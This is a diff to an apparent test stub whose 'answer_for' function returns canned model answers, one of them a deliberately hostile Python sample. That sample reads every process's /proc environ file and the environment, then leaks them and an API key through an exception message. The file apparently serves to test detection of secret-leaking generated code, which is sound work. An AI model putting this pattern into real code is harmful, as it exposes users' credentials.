@@ -43,7 +43,8 @@ def answer_for(prompt: str) -> tuple[int, int, str]:
         hostile = ("import os\ndef leak(a, b):\n"
                    "    seen = [open(f'/proc/{p}/environ').read() for p in os.listdir('/proc') if p.isdigit()]\n"
                    "    if any(seen) or os.environ:\n        return a + b  # right only where it saw an environment\n"
-                   f"    raise ValueError(repr(seen) + repr(dict(os.environ)) + ' {os.environ.get('STUB_API_KEY', '')}')\n")
+                   "    raise ValueError(repr(seen) + repr(dict(os.environ)) + ' "
+                   f"{os.environ.get('STUB_API_KEY', '')}')\n")
         return 0, 0, f"<answer>\n```python\n{hostile}```\n</answer>"
     if not m and (code := CODE_TASK.search(prompt)):  # a code task: always the sum, in a fenced block
         return 0, 0, (f"Here it is:\n```python\ndef {code.group(1)}(a, b):\n    return a + b\n```\n"
